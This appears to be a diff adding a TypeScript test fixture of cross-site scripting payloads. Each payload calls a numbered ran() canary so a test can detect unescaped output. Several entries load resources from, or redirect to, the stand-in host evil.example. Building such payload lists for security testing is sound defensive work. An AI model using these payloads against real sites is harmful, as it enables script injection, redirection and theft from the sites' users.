@@ -1,0 +1,20 @@
+/** Texts that would run where a page takes them for its own, each with a number by which it tells that it did. */
+export const SCRIPTS: readonly string[] = [
+  '"><img src=x onerror=ran(1)>',
+  '</script><script>ran(2)</script>',
+  "' onmouseover=ran(3) x='",
+  '<svg/onload=ran(4)>',
+  '</title><script>ran(5)//',
+  '--><script>ran(6)</script>',
+  '<a href=javascript:ran(7)>x</a>',
+  '</textarea><img src=x onerror=ran(8)>',
+  ']]><script>ran(9)</script>',
+  '${ran(10)}{{ran(10)}}<%=ran(10)%>',
+  '<iframe srcdoc="<script>parent.ran(11)</script>">',
+  '<base href=//evil.example/><link rel=import href=//evil.example/x>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action=//evil.example><button formaction=javascript:ran(12)>x',
+  '\u2028</style><style>@import"//evil.example/x"</style>',
+  '[x](javascript:ran(13)) ![x](//evil.example/p.png) <javascript:ran(14)>',
+  '&lt;script&gt;ran(15)&lt;/script&gt;&#x3c;img src=x onerror=ran(15)&#x3e;',
+];
